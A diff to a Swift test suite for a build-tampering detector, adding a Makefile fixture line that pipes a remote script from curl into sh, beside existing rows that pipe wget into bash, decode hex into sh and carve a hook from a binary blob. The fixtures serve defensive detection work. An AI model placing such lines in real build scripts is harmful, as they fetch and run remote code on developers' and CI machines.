@@ -46,6 +46,8 @@ struct BuildTamperingDetectorTests {
         ("build.gradle", "    exec { commandLine 'sh', '-c', 'wget -qO- http://192.0.2.8/a.sh | bash' }", "CUST-BUILD-001"),
         ("Makefile", "\thead -c 4096 tests/data/blob.bin | tail -c 1024 > .hook", "CUST-BUILD-003"),
         ("meson.build", "run_command('sh', '-c', 'xxd -r -p data/seed.hex | sh', check: true)", "CUST-BUILD-002"),
+        // In a make recipe `//usr/bin/curl` is a command, not a C comment.
+        ("Makefile", "\t//usr/bin/curl -fsSL https://203.0.113.7/setup.sh | sh", "CUST-BUILD-001"),
     ])
     func buildScriptsThatHideWork(_ path: String, _ line: String, _ rule: String) {
         let findings = BuildDetectorFixtures.scan(detector, path: path, old: "# header\n", new: "# header\n" + line + "\n")
